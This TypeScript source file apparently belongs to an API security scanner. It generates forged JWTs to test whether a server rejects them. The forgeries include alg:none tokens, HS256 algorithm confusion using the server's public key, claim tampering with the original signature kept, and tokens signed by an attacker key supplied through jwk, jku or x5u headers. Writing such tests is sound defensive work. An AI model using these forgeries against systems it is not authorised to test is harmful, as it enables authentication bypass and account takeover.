/**
 * Client-side JWT forgeries for the JWT rules (specs/rules/jwt.json), built with jose: `alg: none` in any letter case
 * (JWT-001), HS256 signed with the environment's PUBLIC key taken from its JWKS as PEM / DER / JWK JSON (JWT-002,
 * algorithm confusion), payload tampering with the signature kept (JWT-003), signature tampering / truncation and
 * wrong segment counts (JWT-004), and header-supplied keys — an embedded `jwk`, `jku`, `x5u` — with the token
 * signed by an attacker key (JWT-012).
 *
 * Key material is prepared asynchronously with jose (import the JWKS key, export SPKI PEM, generate the attacker key
 * pair); a mutation itself is a plain descriptor applied synchronously (`applyJwtMutation`), so checks can apply it
 * inside the Authorization header's render function: the real JWT is read only where the request is built, reports
 * show the mutation applied to the credential's fingerprint, and a fast-check counterexample prints as its label.
 */
import { createHmac, createPrivateKey, sign, type KeyObject } from 'node:crypto';
import {
  base64url,
  decodeJwt,
  decodeProtectedHeader,
  exportJWK,
  exportPKCS8,
  exportSPKI,
  generateKeyPair,
  importJWK,
  type JWK,
} from 'jose';

/** What can be done to a JWT (data only; see `applyJwtMutation`). */
export type JwtMutation =
  | { kind: 'alg-none'; alg: string; signature: 'empty' | 'kept' | 'dropped' }
  | { kind: 'hs256-public-key'; encoding: 'pem' | 'pem-no-newline' | 'der' | 'jwk-json' | 'modulus' }
  | { kind: 'claims'; claims: Record<string, unknown>; label: string }
  | { kind: 'reencoded-payload' }
  | { kind: 'header'; header: Record<string, unknown>; label: string }
  | { kind: 'signature-flip'; position: number }
  | { kind: 'signature-truncate'; drop: number }
  | { kind: 'signature-empty' }
  | { kind: 'segments'; shape: 'two' | 'four' | 'one' | 'five' | 'duplicate-payload' }
  | { kind: 'garbage-segment'; segment: 0 | 1 | 2; text: string }
  | { kind: 'attacker-key'; via: 'jwk' | 'jku' | 'x5u' | 'kid-only' };

/** Public key material of the environment plus an attacker key pair, prepared once per run. */
export interface ForgeMaterial {
  /** SPKI PEM of the environment signing key, as jose exports it (no trailing newline). */
  pem: string;
  der: Buffer;
  jwk: JWK;
  kid: string | undefined;
  attacker: { privateKey: KeyObject; jwk: JWK; kid: string };
}

/** A short description of the mutation, without any token content. */
export function describeJwtMutation(m: JwtMutation): string {
  switch (m.kind) {
    case 'alg-none':
      return `alg "${m.alg}", signature ${m.signature}`;
    case 'hs256-public-key':
      return `HS256 signed with the environment public key (${m.encoding})`;
    case 'claims':
      return `payload tampered (${m.label}), signature kept`;
    case 'reencoded-payload':
      return 'payload re-encoded (same claims, other bytes), signature kept';
    case 'header':
      return `header changed (${m.label}), signature kept`;
    case 'signature-flip':
      return `signature character ${m.position} changed`;
    case 'signature-truncate':
      return `signature truncated by ${m.drop} character(s)`;
    case 'signature-empty':
      return 'signature segment empty';
    case 'segments':
      return `segments: ${m.shape}`;
    case 'garbage-segment':
      return `segment ${m.segment} replaced by non-base64url text`;
    case 'attacker-key':
      return m.via === 'kid-only'
        ? 'signed by an attacker RSA key (environment kid kept)'
        : `attacker key supplied in the header (${m.via}), signed with it`;
  }
}

const enc = (value: unknown): string => base64url.encode(JSON.stringify(value));

interface Parts {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
  segments: [string, string, string];
}

/** Splits and decodes a compact JWS (jose decoders); undefined when it is not one. */
export function parseJwt(token: string): Parts | undefined {
  const segments = token.split('.');
  if (segments.length !== 3) return undefined;
  try {
    return {
      header: decodeProtectedHeader(token),
      payload: decodeJwt(token),
      segments: segments as [string, string, string],
    };
  } catch {
    return undefined;
  }
}

function hs256(input: string, secret: string | Buffer): string {
  return createHmac('sha256', secret).update(input).digest('base64url');
}

function rs256(input: string, key: KeyObject): string {
  return sign('sha256', Buffer.from(input), key).toString('base64url');
}

function needMaterial(material: ForgeMaterial | undefined, m: JwtMutation): ForgeMaterial {
  if (!material) throw new Error(`${describeJwtMutation(m)} needs the environment key material (prepareForgeMaterial)`);
  return material;
}

/**
 * Applies a mutation to a compact JWT. Total: a value that is not a JWT (a fingerprint, a shell variable in a curl
 * line) comes back as `value~<mutation>` so the recorded request still says what was sent.
 */
export function applyJwtMutation(token: string, m: JwtMutation, material?: ForgeMaterial): string {
  const parts = parseJwt(token);
  if (!parts) return `${token}~{${describeJwtMutation(m)}}`;
  const [h, p, s] = parts.segments;
  switch (m.kind) {
    case 'alg-none': {
      const header = enc({ ...parts.header, alg: m.alg });
      return m.signature === 'dropped' ? `${header}.${p}` : `${header}.${p}.${m.signature === 'kept' ? s : ''}`;
    }
    case 'hs256-public-key': {
      const km = needMaterial(material, m);
      const header = enc({ ...parts.header, alg: 'HS256' });
      const input = `${header}.${p}`;
      const secret =
        m.encoding === 'pem'
          ? `${km.pem}\n`
          : m.encoding === 'pem-no-newline'
            ? km.pem
            : m.encoding === 'der'
              ? km.der
              : m.encoding === 'jwk-json'
                ? JSON.stringify(km.jwk)
                : Buffer.from(String(km.jwk.n ?? ''), 'base64url');
      return `${input}.${hs256(input, secret)}`;
    }
    case 'claims':
      return `${h}.${enc({ ...parts.payload, ...m.claims })}.${s}`;
    case 'reencoded-payload':
      return `${h}.${base64url.encode(JSON.stringify(parts.payload, null, 1))}.${s}`;
    case 'header':
      return `${enc({ ...parts.header, ...m.header })}.${p}.${s}`;
    case 'signature-flip': {
      // Change a character away from the last one (whose low bits may be padding) to a different base64url symbol.
      const at = s.length > 2 ? m.position % (s.length - 2) : 0;
      const ch = s[at] ?? 'A';
      const replacement = ch === 'A' ? 'B' : ch === 'a' ? 'b' : 'A';
      return `${h}.${p}.${s.slice(0, at)}${replacement}${s.slice(at + 1)}`;
    }
    case 'signature-truncate':
      return `${h}.${p}.${s.slice(0, Math.max(0, s.length - Math.max(1, m.drop)))}`;
    case 'signature-empty':
      return `${h}.${p}.`;
    case 'segments':
      switch (m.shape) {
        case 'two':
          return `${h}.${p}`;
        case 'one':
          return h;
        case 'four':
          return `${h}.${p}.${s}.${s}`;
        case 'five':
          return `${h}.${p}.${s}.${p}.${s}`;
        case 'duplicate-payload':
          return `${h}.${p}.${p}.${s}`;
      }
      return token;
    case 'garbage-segment': {
      const segs = [h, p, s];
      segs[m.segment] = m.text;
      return segs.join('.');
    }
    case 'attacker-key': {
      const km = needMaterial(material, m);
      const extra =
        m.via === 'jwk'
          ? { jwk: km.attacker.jwk, kid: km.attacker.kid }
          : m.via === 'jku'
            ? { jku: 'http://127.0.0.1:9/.well-known/jwks.json', kid: km.attacker.kid }
            : m.via === 'x5u'
              ? { x5u: 'http://127.0.0.1:9/cert.pem', kid: km.attacker.kid }
              : {};
      const header = enc({ ...parts.header, alg: 'RS256', ...extra });
      const input = `${header}.${p}`;
      return `${input}.${rs256(input, km.attacker.privateKey)}`;
    }
  }
}

/** The RSA signing key of a JWKS document: the one with `kid` when given, else the first RSA key. */
export function pickJwk(jwks: unknown, kid?: string): JWK | undefined {
  const keys = (jwks as { keys?: unknown } | undefined)?.keys;
  if (!Array.isArray(keys)) return undefined;
  const rsa = (keys as JWK[]).filter((k) => k && typeof k === 'object' && k.kty === 'RSA');
  return (kid ? rsa.find((k) => k.kid === kid) : undefined) ?? rsa[0];
}

/** Prepares the key material with jose: the JWKS key as JWK / PEM / DER, and a fresh attacker RS256 key pair. */
export async function prepareForgeMaterial(jwks: unknown, kid?: string): Promise<ForgeMaterial> {
  const jwk = pickJwk(jwks, kid);
  if (!jwk) throw new Error('the JWKS has no RSA key');
  const publicKey = await importJWK({ ...jwk, alg: 'RS256' }, 'RS256', { extractable: true });
  if (publicKey instanceof Uint8Array) throw new Error('the JWKS key is not an RSA public key');
  const pem = (await exportSPKI(publicKey)).trim();
  const der = Buffer.from(pem.replace(/-----[A-Z ]+-----/g, '').replace(/\s+/g, ''), 'base64');
  const pair = await generateKeyPair('RS256', { extractable: true, modulusLength: 2048 });
  const attackerKid = `attacker-${Date.now().toString(36)}`;
  const attackerJwk = { ...(await exportJWK(pair.publicKey)), kid: attackerKid, alg: 'RS256', use: 'sig' };
  const privateKey = createPrivateKey(await exportPKCS8(pair.privateKey));
  return { pem, der, jwk, kid: jwk.kid ?? kid, attacker: { privateKey, jwk: attackerJwk, kid: attackerKid } };
}

/** Claims of a JWT without verification (undefined if it is not one). */
export function jwtClaims(token: string): Record<string, unknown> | undefined {
  return parseJwt(token)?.payload;
}
